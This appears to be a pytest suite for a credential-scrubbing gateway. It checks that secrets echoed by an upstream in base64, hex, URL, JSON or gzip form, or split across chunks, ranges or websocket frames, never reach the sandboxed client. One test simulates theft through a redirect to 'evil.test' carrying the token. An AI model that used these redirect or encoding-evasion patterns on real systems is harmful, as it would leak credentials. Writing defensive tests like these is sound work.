"""A secret that an upstream sends back, in whatever form and however it is cut, is not read in the sandbox.

Each case is shown to bite: without the scrubber the client can read the secret.
"""

from __future__ import annotations

import asyncio
import base64
import gzip
import json
import os
from collections.abc import Callable
from urllib.parse import quote

import pytest

from tickover.core.effect import Wanted
from tickover.core.egress import CredentialForm, Egress
from tickover.core.enforcement import Powers, Rule
from tickover.core.lookup import JsonPath
from tickover.core.target import Target
from tickover.gateway.asked import Asked
from tickover.gateway.guard import Guard
from tickover.gateway.scrub import Scrubber
from tickover.testing.gateway import MemoryValues
from tickover.testing.inspected import DOUBLE, HOST, egress_to, inspected
from tickover.testing.upstream import Handler, Seen, Talk, upstream

TOKEN = b'xoxb-1234567890/abc"DEF'
VALUES = {"key": TOKEN}


def egress(port: int) -> Egress:
    powers = Powers(
        (
            Rule("may[0]", Target.parse(f"POST https://{HOST}:{port}/echo")),
            Rule("may[1]", Target.parse(f"GET https://{HOST}:{port}/ws")),
        )
    )
    wanted = Wanted((JsonPath.parse("text"),), (JsonPath.parse("echo"),))
    return egress_to(HOST, port, powers=powers, credentials={"key": CredentialForm()}, wanted=wanted)


class NoScrubber(Guard):
    def scrubber(self, host: str) -> Scrubber | None:
        return None


class NothingHidden(Guard):
    def unhidden(self, asked: Asked) -> Asked:
        return asked


class KeepsAll(Guard):
    def keeps(self, name: str) -> bool:
        return True


class Unredacted(Guard):
    def redact(self, text: str) -> str:
        return text


Form = tuple[Callable[[bytes], bytes], Callable[[bytes], bytes]]
FORMS: dict[str, Form] = {
    "exact": (bytes, bytes),
    "base64": (base64.b64encode, base64.b64decode),
    "base64, 1": (lambda value: base64.b64encode(b"u" + value + b"t"), base64.b64decode),
    "base64, 2": (lambda value: base64.b64encode(b"us" + value + b"t"), base64.b64decode),
    "url-safe": (base64.urlsafe_b64encode, base64.urlsafe_b64decode),
    "url": (lambda value: quote(value, safe="").encode(), lambda text: text.replace(b"%22", b'"').replace(b"%2F", b"/")),
    "hex": (lambda value: value.hex().encode(), lambda text: bytes.fromhex(text.decode("latin-1"))),
    "json": (lambda value: json.dumps(value.decode()).encode(), lambda text: json.loads(text).encode()),
    "json, \\u": (
        lambda value: b'"' + b"".join(b"\\u%04x" % each for each in value) + b'"',
        lambda text: json.loads(text).encode(),
    ),
    "gzip": (gzip.compress, lambda text: text),
}  # fmt: skip


def readable(text: bytes, decode: Callable[[bytes], bytes]) -> bool:
    try:
        return TOKEN in decode(text)
    except ValueError:
        return False


def echoing(encode: Callable[[bytes], bytes], *, pieces: int = 1, coding: str = "") -> Handler:
    """Send back the token that came, cut into pieces."""

    async def handler(seen: Seen, talk: Talk) -> None:
        body = encode((seen.header("authorization") or "").removeprefix("Bearer ").encode())
        size = -(-len(body) // pieces)
        more = f"content-encoding: {coding}\r\n" if coding else ""
        await talk.write(f"HTTP/1.1 200 OK\r\n{more}transfer-encoding: chunked\r\n\r\n".encode())
        for at in range(0, len(body), size):
            piece = body[at : at + size]
            await talk.write(b"%x\r\n%b\r\n" % (len(piece), piece))
            await asyncio.sleep(0)
        await talk.write(b"0\r\n\r\n")

    return handler


@pytest.mark.parametrize("guard", [Guard, NoScrubber], ids=["protected", "bites"])
@pytest.mark.parametrize("pieces", [1, 5, 1000])
@pytest.mark.parametrize("name", FORMS)
async def test_an_echo_in_a_body(name: str, pieces: int, guard: type[Guard]) -> None:
    encode, decode = FORMS[name]
    coding = "gzip" if name == "gzip" else ""
    async with (
        upstream(HOST, echoing(encode, pieces=pieces, coding=coding), authority=DOUBLE) as double,
        inspected(egress(double.port), double.port, values=VALUES, guard=guard) as site,
        site.client() as client,
    ):
        answer = await client.get("/echo")
        assert answer.status_code == 200
        assert readable(answer.content, decode) is (guard is NoScrubber)


@pytest.mark.parametrize("guard", [Guard, NoScrubber], ids=["protected", "bites"])
async def test_an_echo_in_a_header(guard: type[Guard]) -> None:
    async def handler(seen: Seen, talk: Talk) -> None:
        token = (seen.header("authorization") or "").removeprefix("Bearer ")
        await talk.answer(b"", status="302 Found", headers=(("location", f"https://evil.test/?t={quote(token)}"),))

    async with (
        upstream(HOST, handler, authority=DOUBLE) as double,
        inspected(egress(double.port), double.port, values=VALUES, guard=guard) as site,
        site.client() as client,
    ):
        answer = await client.get("/echo")
        assert (quote(TOKEN.decode()) in answer.headers["location"]) is (guard is NoScrubber)


@pytest.mark.parametrize("guard", [Guard, NothingHidden], ids=["protected", "bites"])
async def test_an_echo_asked_for_in_two_halves(guard: type[Guard]) -> None:
    async def handler(seen: Seen, talk: Talk) -> None:
        body = (seen.header("authorization") or "").encode()
        first, _, last = (seen.header("range") or "").removeprefix("bytes=").partition("-")
        body = body[int(first) : int(last) + 1] if last else body
        await talk.answer(body, status="206 Partial Content" if last else "200 OK")

    async with (
        upstream(HOST, handler, authority=DOUBLE) as double,
        inspected(egress(double.port), double.port, values=VALUES, guard=guard) as site,
        site.client() as client,
    ):
        halves = [await client.get("/echo", headers={"range": each}) for each in ("bytes=0-14", "bytes=15-99")]
        text = b"".join(each.content for each in halves)
    assert (TOKEN in text) is (guard is NothingHidden)


@pytest.mark.parametrize("guard", [Guard, KeepsAll], ids=["protected", "bites"])
async def test_what_stands_for_a_credential_is_not_handed_out(guard: type[Guard]) -> None:
    async def handler(seen: Seen, talk: Talk) -> None:
        await talk.answer(b"", headers=(("set-cookie", "session=as-good-as-the-token"),))

    async with (
        upstream(HOST, handler, authority=DOUBLE) as double,
        inspected(egress(double.port), double.port, values=VALUES, guard=guard) as site,
        site.client() as client,
    ):
        answer = await client.get("/x")
        assert ("set-cookie" in answer.headers) is (guard is KeepsAll)


async def test_an_old_value_is_still_blotted_after_a_rotation() -> None:
    new = b"xoxb-another-value-altogether"

    async def handler(seen: Seen, talk: Talk) -> None:
        await talk.answer(TOKEN + b" and " + new)

    async with (
        upstream(HOST, handler, authority=DOUBLE) as double,
        inspected(egress(double.port), double.port, values=VALUES) as site,
        site.client() as client,
    ):
        await client.get("/x")
        site.values.values = {"key": new}
        answer = await client.get("/x")
    assert double.seen[1].header("authorization") == f"Bearer {new.decode()}"
    assert answer.text == "*" * len(TOKEN) + " and " + "*" * len(new)


@pytest.mark.parametrize("guard", [Guard, Unredacted], ids=["protected", "bites"])
async def test_no_secret_is_in_a_receipt(guard: type[Guard]) -> None:
    async def handler(seen: Seen, talk: Talk) -> None:
        await talk.answer(b'{"echo": "said"}', headers=(("content-type", "application/json"),))

    async with (
        upstream(HOST, handler, authority=DOUBLE) as double,
        inspected(egress(double.port), double.port, values=VALUES, guard=guard) as site,
        site.client() as client,
    ):
        # The agent has guessed it: even so it is not written down.
        await client.post("/echo", json={"text": f"it is {TOKEN.decode()}"})
        await site.ledger.ended()
    kept = "".join(each.model_dump_json() for each in site.ledger.records)
    assert (json.dumps(TOKEN.decode())[1:-1] in kept) is (guard is Unredacted)


# Websockets.


def frame(payload: bytes, *, final: bool = True, opcode: int = 1) -> bytes:
    return bytes([opcode | (0x80 if final else 0), len(payload)]) + payload


def frames(data: bytes) -> list[tuple[int, bytes]]:
    found = []
    while data:
        found.append((data[0], data[2 : 2 + data[1]]))
        data = data[2 + data[1] :]
    return found


UPGRADE = (
    f"GET /ws HTTP/1.1\r\nhost: {HOST}\r\nconnection: upgrade\r\nupgrade: websocket\r\nsec-websocket-version: 13\r\n"
    "sec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\nsec-websocket-extensions: permessage-deflate\r\n\r\n"
)
SWITCHED = b"HTTP/1.1 101 Switching Protocols\r\nconnection: upgrade\r\nupgrade: websocket\r\n\r\n"


@pytest.mark.parametrize("guard", [Guard, NoScrubber], ids=["protected", "bites"])
async def test_an_echo_in_the_frames_of_a_websocket(guard: type[Guard]) -> None:
    sent = [
        frame(b"hello"),
        frame(b"it is " + TOKEN),
        frame(TOKEN[:7], final=False),
        frame(b"ping", opcode=9),
        frame(TOKEN[7:15], final=False, opcode=0),
        frame(TOKEN[15:] + b"!", opcode=0),
        frame(b"x" + TOKEN[:4]),
    ]

    async def handler(seen: Seen, talk: Talk) -> None:
        await talk.write(SWITCHED)
        assert await talk.reader.readexactly(7) == b"\x81\x81\0\0\0\0h"
        for each in sent:
            for at in range(len(each)):
                await talk.write(each[at : at + 1])
        await talk.reader.read()

    async with (
        upstream(HOST, handler, authority=DOUBLE) as double,
        inspected(egress(double.port), double.port, values=VALUES, guard=guard) as site,
        asyncio.timeout(60),
    ):
        reader, writer = await site.raw()
        writer.write(UPGRADE.encode())
        assert (await reader.readuntil(b"\r\n\r\n")).startswith(b"HTTP/1.1 101 ")
        writer.write(b"\x81\x81\0\0\0\0h")
        got = frames(await reader.readexactly(sum(map(len, sent))))  # not one byte is held back
        writer.close()
        (receipt,) = await site.ledger.ended()
    assert double.seen[0].header("authorization") == f"Bearer {TOKEN.decode()}"
    assert double.seen[0].header("sec-websocket-extensions") is None
    text = b"".join(payload for first, payload in got if first & 0x0F < 8)
    assert (TOKEN in text) is (guard is NoScrubber)
    assert text.replace(b"*" * len(TOKEN), TOKEN) == b"helloit is " + TOKEN + TOKEN + b"!" + b"x" + TOKEN[:4]
    assert [first for first, _ in got] == [each[0] for each in sent]
    assert receipt.begun.writes
    assert receipt.ended
    assert (receipt.ended.status, receipt.ended.request_bytes) == (101, 7)


@pytest.mark.parametrize("bad", [b"\xc1\x02ab", b"\x81\x82\0\0\0\0ab", b"\x80\x01a", b"\x89\x7e\0\xff", b"\x09\x00"])
async def test_frames_that_could_hide_something_end_the_websocket(bad: bytes) -> None:
    async def handler(seen: Seen, talk: Talk) -> None:
        await talk.write(SWITCHED + bad)
        await talk.reader.read()

    async with (
        upstream(HOST, handler, authority=DOUBLE) as double,
        inspected(egress(double.port), double.port, values=VALUES) as site,
    ):
        said = await site.say(UPGRADE.encode())
        (receipt,) = await site.ledger.ended()
    assert said.partition(b"\r\n\r\n")[2] == b""
    assert site.codes() == ["websocket"]
    assert receipt.ended
    assert receipt.ended.why.startswith("websocket")


async def test_megabytes_of_escapes_pass_unchanged() -> None:
    body = json.dumps([{"text": 'line\nwith "quotes" \\ é 100%', "id": each} for each in range(40_000)]).encode()
    noise = os.urandom(1 << 20)

    async def handler(seen: Seen, talk: Talk) -> None:
        await talk.answer(body + noise)

    async with (
        upstream(HOST, handler, authority=DOUBLE) as double,
        inspected(egress(double.port), double.port, values=VALUES) as site,
        site.client() as client,
    ):
        answer = await client.get("/x")
    assert answer.content == body + noise


@pytest.mark.parametrize("value", [b"short", b"line\nbreak and more", b"nul\0 and more", "grün und lang".encode()])
async def test_a_value_that_cannot_be_a_credential_is_never_sent(value: bytes) -> None:
    async with (
        upstream(HOST, authority=DOUBLE) as double,
        inspected(egress(double.port), double.port, values={"key": value}) as site,
        site.client() as client,
    ):
        answer = await client.get("/x")
    assert (answer.status_code, answer.headers["x-tickover-deny"]) == (503, "credential")
    assert value not in answer.content
    assert not double.raw


async def test_a_credential_without_a_value_is_told() -> None:
    async with (
        upstream(HOST, authority=DOUBLE) as double,
        inspected(egress(double.port), double.port, guard=lambda egress, _: Guard(egress, MemoryValues())) as site,
        site.client() as client,
    ):
        answer = await client.get("/x")
    assert (answer.status_code, answer.headers["x-tickover-deny"]) == (503, "credential")
